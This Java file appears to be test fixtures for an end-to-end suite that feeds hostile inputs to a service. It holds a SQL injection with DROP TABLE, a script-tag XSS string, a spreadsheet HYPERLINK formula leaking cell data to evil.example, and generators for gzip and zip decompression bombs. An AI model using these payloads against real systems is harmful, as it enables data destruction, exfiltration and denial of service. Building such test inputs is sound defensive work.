package mx.gob.dif.e2e;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Locale;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * The raw material of {@link HostileCorpus}: personal-data markers unique to this run (an obviously
 * fictitious name and a CURP with a valid check digit, so a service that logged them can be caught),
 * JSON mutated in place, and the binary bodies (gzip and zip bombs, a truncated spreadsheet). Big bodies
 * are built once and shared.
 */
final class HostilePayloads {
    /** Only the markers are random (unique to the run); every mutation is the same each run. */
    private static final Random RANDOM = new Random();

    /** A surname no person has, unique to this run: what the log scan looks for. */
    static final String MARKER = "Zyxqtl" + letters(6);
    /** A fictitious but well-formed CURP (valid check digit), unique to this run. */
    static final String CURP = curp();

    static final String ONE_MB = repeat(MARKER + " ", 1 << 20);
    static final String SQL = "10005' OR '1'='1'; DROP TABLE plan;--";
    static final String HTML = "<script>alert('" + MARKER + "')</script>";
    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"" + MARKER + "\")";
    static final String NUL = "10\u00000005";
    static final String ESCAPE = "10005\u001b[31m";
    static final String RTL = "\u202e50001";
    /** Latin and Cyrillic look-alikes: "1ООО5" with Cyrillic O. */
    static final String MIXED = "1\u041e\u041e\u041e5";
    static final String HUGE_INTEGER = "9223372036854775808";
    static final String LONG_DIGITS = repeat("9", 2000);

    private HostilePayloads() {
    }

    static String repeat(String s, int length) {
        StringBuilder b = new StringBuilder(length + s.length());
        while (b.length() < length) {
            b.append(s);
        }
        return b.substring(0, length);
    }

    /** A JSON string literal of {@code s} (escapes quotes, backslashes and control characters). */
    static String quote(String s) {
        StringBuilder b = new StringBuilder(s.length() + 2).append('"');
        for (char c : s.toCharArray()) {
            switch (c) {
                case '"' -> b.append("\\\"");
                case '\\' -> b.append("\\\\");
                default -> {
                    if (c < 0x20 || c == 0x7f || (c >= 0x202a && c <= 0x202e)) {
                        b.append(String.format("\\u%04x", (int) c));
                    } else {
                        b.append(c);
                    }
                }
            }
        }
        return b.append('"').toString();
    }

    /**
     * {@code json} with the value of the first {@code "field":} replaced by the raw JSON {@code value}
     * (a string literal, number, object …, or nothing at all for {@link #without}).
     */
    static String with(String json, String field, String value) {
        Matcher m = Pattern.compile("\"" + Pattern.quote(field) + "\"\\s*:\\s*(\"(?:[^\"\\\\]|\\\\.)*\"|\\[[^\\]]*]|[^,}\\]]+)").matcher(json);
        if (!m.find()) {
            throw new IllegalArgumentException("no field '" + field + "' in " + json);
        }
        return json.substring(0, m.start(1)) + value + json.substring(m.end(1));
    }

    /** {@code json} without {@code "field": value} (the field is missing). */
    static String without(String json, String field) {
        Matcher m = Pattern.compile(",?\\s*\"" + Pattern.quote(field) + "\"\\s*:\\s*(\"(?:[^\"\\\\]|\\\\.)*\"|\\[[^\\]]*]|[^,}\\]]+)").matcher(json);
        if (!m.find()) {
            throw new IllegalArgumentException("no field '" + field + "' in " + json);
        }
        String out = json.substring(0, m.start()) + json.substring(m.end());
        return out.replace("{,", "{");
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    /** {@code [[[[…]]]]} nested deeper than any parser should follow. */
    static String deepNesting(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    /** A JSON body with a byte sequence that is not UTF-8. */
    static byte[] invalidUtf8(String json) {
        byte[] b = utf8(json);
        byte[] out = Arrays.copyOf(b, b.length + 2);
        System.arraycopy(b, 0, out, 0, b.length - 1);
        out[b.length - 1] = (byte) 0xC3;
        out[b.length] = (byte) 0x28;
        out[b.length + 1] = '}';
        return out;
    }

    private static byte[] gzipBomb;
    private static byte[] zipBomb;

    /** 200 MB of zeros gzipped (about 200 kB): a body announced as {@code Content-Encoding: gzip}. */
    static synchronized byte[] gzipBomb() {
        if (gzipBomb == null) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (GZIPOutputStream gz = new GZIPOutputStream(out, 1 << 16)) {
                byte[] zeros = new byte[1 << 20];
                for (int i = 0; i < 200; i++) {
                    gz.write(zeros);
                }
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            gzipBomb = out.toByteArray();
        }
        return gzipBomb;
    }

    /**
     * An "XLSX" (a zip with the parts of a workbook) whose sheet inflates from about 200 kB to 200 MB:
     * a reader that trusts the archive runs out of memory.
     */
    static synchronized byte[] zipBomb() {
        if (zipBomb == null) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                zip.setLevel(Deflater.BEST_COMPRESSION);
                entry(zip, "[Content_Types].xml", "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                        + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                        + "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
                        + "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
                        + "</Types>");
                zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
                zip.write(utf8("<?xml version=\"1.0\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"));
                byte[] spaces = new byte[1 << 20];
                Arrays.fill(spaces, (byte) ' ');
                for (int i = 0; i < 200; i++) {
                    zip.write(spaces);
                }
                zip.write(utf8("</sheetData></worksheet>"));
                zip.closeEntry();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            zipBomb = out.toByteArray();
        }
        return zipBomb;
    }

    private static void entry(ZipOutputStream zip, String name, String text) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(utf8(text));
        zip.closeEntry();
    }

    /** A zip that holds nothing a workbook has. */
    static byte[] zipWithoutWorkbook() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            entry(zip, "hola.txt", "no es un libro de cálculo");
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** A body of {@code size} bytes (a JSON string of that length), over a service's body limit. */
    static byte[] oversized(int size) {
        byte[] b = new byte[size];
        Arrays.fill(b, (byte) 'a');
        b[0] = '"';
        b[size - 1] = '"';
        return b;
    }

    private static String letters(int n) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < n; i++) {
            b.append((char) ('a' + RANDOM.nextInt(26)));
        }
        return b.toString();
    }

    /** ZX + 2 random letters, born 1999-12-31, man, Durango, 3 random consonants, '0', check digit. */
    private static String curp() {
        String consonants = "BCDFGHJKLMNPQRSTVWXYZ";
        StringBuilder b = new StringBuilder("ZX").append(letters(2).toUpperCase(Locale.ROOT)).append("991231HDG");
        for (int i = 0; i < 3; i++) {
            b.append(consonants.charAt(RANDOM.nextInt(consonants.length())));
        }
        String first17 = b.append('0').toString();
        String alphabet = "0123456789ABCDEFGHIJKLMNÑOPQRSTUVWXYZ";
        int sum = 0;
        for (int i = 0; i < 17; i++) {
            sum += alphabet.indexOf(first17.charAt(i)) * (18 - i);
        }
        return first17 + (10 - sum % 10) % 10;
    }
}
